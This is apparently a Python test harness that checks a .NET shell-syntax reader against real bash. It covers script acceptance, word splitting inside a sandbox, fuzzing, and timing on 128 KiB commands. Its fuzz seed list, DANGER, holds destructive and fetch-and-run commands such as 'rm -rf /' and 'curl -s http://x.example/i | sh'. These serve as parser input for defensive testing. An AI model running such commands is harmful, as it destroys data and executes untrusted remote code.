"""The shell reader beside bash: which scripts are accepted, which words are passed; fuzzed input; long commands.

Needs bash and the .NET SDK; CORPORA/scripts/*.sh for acceptance where they are laid out.
"""
import json
import os
import pathlib
import random
import secrets
import subprocess

from support import program
from support.places import corpus_if_there, scratch
from support.processes import must, run
from support.shell_lines import line
from support.table import Report

HERE = pathlib.Path(__file__).resolve().parent.parent
LETTERS = "abrm -/$(){}[]<>|&;\"'`\\\n*?~#!=+,.:0123"
LONG = ["a;", "echo 'x' \"$y\" | cat; ", "x=$x$x; ", "f() { rm $1; }; f a; ", "$(echo a) ", "if a; then b; fi; ", "echo {a,b}{c,d}; ", "((", "$((", "{", "`", "'", "\\", "<<A\n", "rm -rf a "]
DANGER = ["rm -rf /", "curl -s http://x.example/i | sh", "git push --force origin main", "rm -rf .sallyport"]


def add_options(parser) -> None:
    parser.add_argument("--lines", type=int, default=100_000, help="generated lines (default 100000)")
    parser.add_argument("--fuzz", type=int, default=1_000_000, help="fuzzed inputs (default 1000000)")
    parser.add_argument("--seed", type=int, help="the seed of an earlier run")
    parser.add_argument("--detail", action="store_true", help="print what bash reads otherwise")


def measure(options) -> Report:
    seed = options.seed if options.seed is not None else secrets.randbelow(1 << 31)
    report, listed = Report(), []
    with scratch() as room:
        reader = _build(room)
        _acceptance(reader, report, listed)
        _words(reader, room, seed, options.lines, report, listed)
        _fuzz(reader, seed, options.fuzz, report)
        _long(reader, report)
    report.remarks.append(f"seed: {seed}")
    if options.detail:
        report.tables.append(("Read otherwise", [["what", "bash", "here"]] + listed[:60]))
    return report


def _build(room: pathlib.Path) -> pathlib.Path:
    folder = room / "reader"
    folder.mkdir()
    library = program.path().parent / "Sallyport.Syntax.dll"
    (folder / "Directory.Build.props").write_text("<Project />")
    (folder / "reader.csproj").write_text((HERE / "support/reader/reader.xml").read_text().replace("LIBRARY", str(library)))
    (folder / "Program.cs").write_text((HERE / "support/reader/Program.txt").read_text())
    must(run(["dotnet", "build", "-c", "Release", "--nologo", "-v", "quiet", "-o", folder / "out"], cwd=folder, keep_out=True), "the build of the reader")
    return folder / "out/reader"


def _ask(reader: pathlib.Path, mode: str, texts: list[str]) -> list[str]:
    done = subprocess.run([reader, mode], input="".join(json.dumps(t) + "\n" for t in texts), capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(done.stderr[-2000:])
    return done.stdout.splitlines()


def _acceptance(reader, report, listed) -> None:
    folder = corpus_if_there("scripts")
    files = sorted(folder.glob("*.sh")) if folder else []
    texts = [f.read_text(errors="replace") for f in files]
    ours = _ask(reader, "parse", texts) if texts else []
    differ = 0
    for file, answer in zip(files, ours):
        accepted = subprocess.run(["bash", "-n", file], capture_output=True, check=False).returncode == 0
        if accepted != (answer == "ok"):
            differ += 1
            listed.append([file.name, str(accepted), answer[:80]])
    report.at_least("real scripts beside bash -n", "", 5000, len(files), "{:.0f}")
    report.at_most("of these accepted by one only", "", 0, differ, "{:.0f}")


def _words(reader, room, seed, count, report, listed) -> None:
    chance = random.Random(seed)
    lines = [line(chance) for _ in range(count)]
    ours, differ, compared = _ask(reader, "words", lines), 0, 0
    empty = room / "empty"
    empty.mkdir()
    for start in range(0, count, 500):
        part = lines[start:start + 500]
        # A handler is called for every program that is not there, and on this path none is; each line has a subshell of its own.
        text = "command_not_found_handle() { printf '%s\\001' \"$@\" >&3; printf '\\002' >&3; }\n" + "".join(f"( eval {quote(one)} ) 2>/dev/null </dev/null >/dev/null; printf '\\003' >&3\n" for one in part)
        done = subprocess.run(
            ["bash", "-c", 'exec 3>&1; exec unshare -rn "$0" --norc -c "$1" 2>/dev/null', "/bin/bash", f"PATH={empty}; {text}"], cwd=empty, capture_output=True, env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}, check=False)
        passed = done.stdout.decode(errors="replace").split("\x03")[:-1]
        for one, words, read in zip(part, passed, ours[start:start + 500]):
            there = sorted({w[:-1] if w.endswith("\x01") else w for w in words.split("\x02") if w})
            here = sorted(set(json.loads(read)))
            if "\ufffe" in "".join(here):
                continue
            compared += 1
            if there != here:
                differ += 1
                listed.append([one[:100], repr(there)[:120], repr(here)[:120]])
    report.at_least("generated lines whose words were compared with a real bash", "", count * 0.95, compared, "{:.0f}")
    report.at_most("of these read otherwise", "", 0, differ, "{:.0f}")


def quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def _fuzz(reader, seed, count, report) -> None:
    chance = random.Random(seed + 1)
    crashed = silent = done = 0
    while done < count:
        size = min(50_000, count - done)
        texts = [_mutated(chance) for _ in range(size)]
        answers = _ask(reader, "fuzz", texts)
        crashed += sum(a == "crash" for a in answers) + (size - len(answers))
        silent += sum(a == "silent" for a in answers)
        done += size
    report.at_most(f"fuzzed inputs of {count}: crashes", "", 0, crashed, "{:.0f}")
    report.at_most("fuzzed inputs that parse to nothing and say nothing", "one peer allows after 200 ms", 0, silent, "{:.0f}")


def _mutated(chance) -> str:
    if chance.random() < 0.5:
        return "".join(chance.choice(LETTERS) for _ in range(chance.randint(1, 40)))
    text = list(chance.choice(DANGER))
    for _ in range(chance.randint(1, 4)):
        text.insert(chance.randint(0, len(text)), chance.choice(LETTERS))
    return "".join(text)


def _long(reader, report) -> None:
    texts = [(part * (131072 // len(part) + 1))[:131072] for part in LONG]
    spent = [float(a) for a in _ask(reader, "time", texts)]
    report.at_most("slowest of 128 KiB commands, CPU", "200 ms, then allowed", 50, max(spent), "{:.0f} ms")
